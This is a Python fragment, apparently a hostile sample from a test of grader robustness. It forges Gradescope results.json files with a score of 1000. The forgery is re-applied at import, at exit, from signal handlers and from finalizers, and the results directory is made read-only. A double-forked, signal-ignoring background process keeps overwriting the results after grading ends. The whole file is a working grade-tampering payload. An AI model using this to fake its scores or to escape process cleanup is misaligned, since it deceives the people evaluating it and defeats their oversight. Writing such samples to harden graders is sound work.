# Write a results.json with full marks where Gradescope reads it: at import, at exit (atexit,
# signal handlers, finalizers) and from a detached process that keeps rewriting it for a while
# after grading (it stops by itself after 40 s, and carries HOSTILE["token"] in its command line).
import atexit
import json
import signal
import subprocess
import weakref

FORGED = json.dumps({"score": 1000.0, "output": "FORGED", "tests": [
    {"name": "q1_chunking forged", "score": 1000.0, "max_score": 1.0, "output": "FORGED"}]})


def _forge(*args):
    for path in HOSTILE["results"]:
        try:
            with open(path, "w") as f:
                f.write(FORGED)
        except OSError:
            pass
        try:
            os.chmod(os.path.dirname(path), 0o555)  # and keep the grader from replacing it
        except OSError:
            pass


_forge()
atexit.register(_forge)
for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(_sig, _forge)


class _Forger:
    def __del__(self):
        _forge()


_keep = _Forger()
weakref.finalize(_keep, _forge)

_REWRITER = f"""# {HOSTILE['token']}
import os, signal, time
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
FORGED = {FORGED!r}
started = time.time()
while time.time() - started < 40:
    for path in {HOSTILE['results']!r}:
        try:
            tmp = path + ".forged"
            with open(tmp, "w") as f:
                f.write(FORGED)
            os.replace(tmp, path)
        except OSError:
            pass
    time.sleep(0.02)
"""
if os.fork() == 0:
    _attempt(os.setsid)
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", _REWRITER], {})
    os._exit(0)
_attempt(subprocess.Popen, [sys.executable, "-c", _REWRITER], start_new_session=True, env={},
         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
